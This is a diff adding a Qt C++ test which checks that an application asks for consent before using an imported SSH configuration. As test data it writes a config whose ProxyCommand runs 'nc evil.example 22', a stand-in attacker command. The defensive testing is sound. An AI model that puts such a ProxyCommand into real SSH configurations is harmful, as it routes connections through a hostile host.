@@ -19,6 +19,8 @@
 #include <QFile>
 #include <QLineEdit>
 #include <QMenu>
+#include <QMessageBox>
+#include <QPointer>
 #include <QPushButton>
 #include <QSignalSpy>
 #include <QTemporaryDir>
@@ -378,6 +380,44 @@ private slots:
         const LinkedConnection linked = linkedConnection(*spec);
         QVERIFY(linked.spec == *spec);
         QVERIFY(!linked.leftOut);
+    }
+
+    void anImportedSshConfigurationIsShownFirst()
+    {
+        QFile config(m_dir.filePath(QStringLiteral("ssh_config")));
+        QVERIFY(config.open(QIODevice::WriteOnly));
+        config.write("Host *\n  ProxyCommand nc evil.example 22\n");
+        config.close();
+        ConnectionSpec gift = profile("gift");
+        gift.ssh = {
+            .destination = QStringLiteral("jump"), .configFile = config.fileName(), .unconfirmed = true};
+        QVERIFY(ProfileStore(m_dir.path()).save({gift}).ok());
+        open();
+        const QSignalSpy opened(m_link.get(), &EngineBridge::openWanted);
+        const auto asked = [this] {
+            m_window->openProfile(QStringLiteral("gift"),
+                                  [](ConnectionSpec &spec) { spec.patterns = {"a*"}; });
+            return m_window->findChild<QMessageBox *>(QStringLiteral("sshConsent"));
+        };
+        QPointer<QMessageBox> box = asked();
+        QVERIFY(box);
+        QVERIFY2(box->informativeText().contains(QStringLiteral("ProxyCommand nc evil.example 22")),
+                 qPrintable(box->informativeText()));
+        box->button(QMessageBox::Cancel)->click();
+        QTRY_VERIFY(!box);
+        QCOMPARE(opened.count(), 0);
+        box = asked();
+        QVERIFY(box);
+        for (QAbstractButton *button : box->buttons()) {
+            if (box->buttonRole(button) == QMessageBox::AcceptRole)
+                button->click();
+        }
+        QTRY_COMPARE(opened.count(), 1);
+        QTRY_VERIFY(!box);
+        const auto saved = ProfileStore(m_dir.path()).find(QStringLiteral("gift"));
+        QVERIFY(saved && !saved->ssh.unconfirmed && saved->patterns.isEmpty());
+        QVERIFY(!asked());
+        QCOMPARE(opened.count(), 2);
     }
 
     void aStartMaySayHowItIsOpened()
